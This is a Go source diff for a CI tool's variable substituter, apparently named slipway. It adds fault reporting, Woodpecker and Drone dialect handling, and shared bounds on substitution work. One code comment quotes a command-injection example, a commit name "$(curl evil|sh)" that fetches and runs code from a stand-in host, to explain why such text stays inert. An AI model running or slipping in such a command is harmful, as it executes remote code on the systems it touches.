@@ -21,7 +21,12 @@ import (
 // same variables are in its environment, and what a shell expands it does not
 // run. So a merge commit called "$(curl evil|sh)" is text wherever it goes.
 //
-// Only the names of CI_* variables are replaced; `${HOME}` is the shell's.
+// In slipway's own files only our variables are replaced (CI_*, those of the
+// matrix, those given by hand); `${HOME}` is the shell's. What envsubst cannot
+// read, `${{ x }}` or `${V-d}`, stays as it is, with a warning. In the files of
+// other systems everything is as there: a variable that is not known is empty,
+// and what cannot be read is an error.
+//
 // `$${NAME}` stands for `${NAME}`.
 
 // use says what a scalar is for.
@@ -44,14 +49,31 @@ const (
 
 // substituter replaces variables in the scalars of one file.
 type substituter struct {
-	vars    map[string]string // known ones that have a value
+	vars    map[string]string // those that have a value
+	names   []string          // further ones that are known
 	dialect dialect
-	work    int
-	grown   int
+	spent   *expense // shared by all substituters of the document
 }
 
-func newSubstituter(vars map[string]string, d dialect) *substituter {
-	return &substituter{vars: vars, dialect: d}
+// expense is what substitutions have cost so far.
+type expense struct{ work, grown int }
+
+func newSubstituter(vars map[string]string, names []string, d dialect) *substituter {
+	return &substituter{vars: vars, names: names, dialect: d, spent: &expense{}}
+}
+
+// another returns a substituter with other variables and the same bounds.
+func (s *substituter) another(vars map[string]string, names []string) *substituter {
+	return &substituter{vars: vars, names: names, dialect: s.dialect, spent: s.spent}
+}
+
+// isVariable reports whether a variable is one of ours, with a value or without.
+func (s *substituter) isVariable(name string) bool {
+	if _, ok := s.vars[name]; ok {
+		return true
+	}
+	_, ok := variableSet[name]
+	return ok || contains(s.names, name)
 }
 
 // substitute returns the value of a scalar with its variables replaced, and
@@ -60,16 +82,34 @@ func (d *decoder) substitute(n *yaml.Node, u use) string {
 	if !strings.Contains(n.Value, "$") && (d.doc.dialect == slipway || !strings.Contains(n.Value, `\`)) {
 		return n.Value
 	}
-	s, problems := d.vars.expand(n.Value, u, n.Style&yaml.DoubleQuotedStyle != 0)
-	for _, p := range problems {
-		d.report(n, p, "")
+	s, faults := d.vars.expand(n.Value, u, n.Style&yaml.DoubleQuotedStyle != 0)
+	for _, f := range faults {
+		d.reportFault(n, f)
 	}
 	return s
 }
 
+// A fault is an expression that cannot be replaced.
+type fault struct {
+	expr string
+	err  error
+}
+
+// reportFault reports an expression that could not be replaced.
+func (d *decoder) reportFault(n *yaml.Node, f fault) {
+	switch {
+	case errors.Is(f.err, errTooMuch):
+		d.report(n, fmt.Sprintf("`%s` cannot be replaced: %v", clip(f.expr), f.err), "")
+	case d.doc.dialect == slipway:
+		d.warn(n, fmt.Sprintf("`%s` is left as it is: %v", clip(f.expr), f.err), fmt.Sprintf("write `$%s` if that is what you mean", clip(f.expr)))
+	default:
+		d.report(n, fmt.Sprintf("`%s` cannot be replaced: %v", clip(f.expr), f.err), fmt.Sprintf("write `$%s` for what is the shell's", clip(f.expr)))
+	}
+}
+
 // expand replaces the variables in s. quoted says that s stood in double
 // quotes, whose backslashes were YAML's.
-func (s *substituter) expand(in string, u use, quoted bool) (out string, problems []string) {
+func (s *substituter) expand(in string, u use, quoted bool) (out string, faults []fault) {
 	var b strings.Builder
 	for {
 		i := strings.Index(in, "${")
@@ -92,22 +132,22 @@ func (s *substituter) expand(in string, u use, quoted bool) (out string, problem
 		}
 		v, err := s.expression(in[i:i+length], u)
 		if err != nil {
-			problems = append(problems, err.Error())
+			faults = append(faults, fault{in[i : i+length], err})
 		}
 		b.WriteString(v)
 		in = in[i+length:]
 	}
 	b.WriteString(s.unescape(in, quoted))
-	return b.String(), problems
+	return b.String(), faults
 }
 
 func trailingDollars(s string) int { return len(s) - len(strings.TrimRight(s, "$")) }
 
 // unescape resolves the escapes of text between expressions. Ours has none but
-// `$${`; Woodpecker turns `$$` into `$` everywhere, and `\\` and `\/` into
-// their second character, and its users write accordingly.
+// `$${`; Woodpecker and Drone turn `$$` into `$` everywhere, and `\\` and `\/` into
+// their second character, and their users write accordingly.
 func (s *substituter) unescape(text string, quoted bool) string {
-	if s.dialect != woodpecker {
+	if s.dialect == slipway {
 		return text
 	}
 	text = strings.ReplaceAll(text, "$$", "$")
@@ -120,6 +160,12 @@ func (s *substituter) unescape(text string, quoted bool) string {
 // expressionLength returns the length of the `${…}` that s begins with, with
 // others nested in it; 0 if it is not closed or too long.
 func expressionLength(s string) int {
+	if strings.HasPrefix(s, "${{") {
+		// Another system's; it is told as a whole.
+		if end := strings.Index(s[:min(len(s), maxExpression)], "}}"); end > 0 {
+			return end + len("}}")
+		}
+	}
 	depth := 0
 	for i := 0; i < len(s) && i < maxExpression; i++ {
 		switch {
@@ -148,33 +194,35 @@ var (
 
 // expression returns what takes the place of one `${…}`.
 func (s *substituter) expression(expr string, u use) (string, error) {
+	if err := s.readable(expr); err != nil {
+		return expr, err
+	}
+	ours := false // a value from outside may come into it
 	names := variableNames.FindAllStringSubmatch(expr, -1)
-	if len(names) == 0 {
+	if len(names) == 0 && s.dialect == slipway {
 		return expr, nil
 	}
 	for _, m := range names {
-		if !isVariable(m[1]) {
-			return s.foreign(expr, u), nil
+		if s.isVariable(m[1]) {
+			ours = true
+		} else if s.dialect == slipway {
+			return expr, nil
 		}
+	}
+	if s.dialect == slipway && unsupported.MatchString(expr) {
+		if u == shell {
+			return expr, nil // the shell does it right
+		}
+		return expr, errOperator
 	}
 	v, err := s.evaluate(expr, names)
 	switch {
-	case u == shell && (err != nil || !harmless.MatchString(v)):
+	case u == shell && ours && (err != nil || !harmless.MatchString(v)):
 		return expr, nil
 	case err != nil:
-		return expr, fmt.Errorf("`%s` cannot be replaced: %w", clip(expr), err)
+		return expr, err
 	}
 	return v, nil
-}
-
-// foreign returns what takes the place of an expression that mentions a
-// variable which is none of ours. Woodpecker replaces it by nothing. We leave
-// it: in commands that is what its author means, and elsewhere it shows.
-func (s *substituter) foreign(expr string, u use) string {
-	if s.dialect == woodpecker && u == plain {
-		return ""
-	}
-	return expr
 }
 
 var (
@@ -183,16 +231,27 @@ var (
 	errSyntax   = errors.New("it is not well-formed")
 )
 
-// evaluate returns the value of an expression whose names are all ours.
-func (s *substituter) evaluate(expr string, names [][]string) (v string, err error) {
-	if unsupported.MatchString(expr) {
-		return "", errOperator
+// readable reports what keeps an expression from being replaced, whatever the
+// values are.
+func (s *substituter) readable(expr string) error {
+	// It is read for each scalar, so that this is work as replacing it is.
+	if len(expr) > maxSubstitution-s.spent.work {
+		return errTooMuch
 	}
+	s.spent.work += len(expr)
+	if _, err := envsubst.Parse(expr); err != nil {
+		return errSyntax
+	}
+	return nil
+}
+
+// evaluate returns the value of an expression.
+func (s *substituter) evaluate(expr string, names [][]string) (v string, err error) {
 	work := s.cost(expr, names)
-	if work > maxSubstitution-s.work {
+	if work > maxSubstitution-s.spent.work {
 		return "", errTooMuch
 	}
-	s.work += work
+	s.spent.work += work
 	// envsubst slices out of range for ${X:3:-2}.
 	defer func() {
 		if recover() != nil {
@@ -203,10 +262,10 @@ func (s *substituter) evaluate(expr string, names [][]string) (v string, err err
 	if err != nil {
 		return "", errSyntax
 	}
-	if len(v) > maxExpanded-s.grown {
+	if len(v) > maxExpanded-s.spent.grown {
 		return "", errTooMuch
 	}
-	s.grown += len(v)
+	s.spent.grown += len(v)
 	return v, nil
 }
 
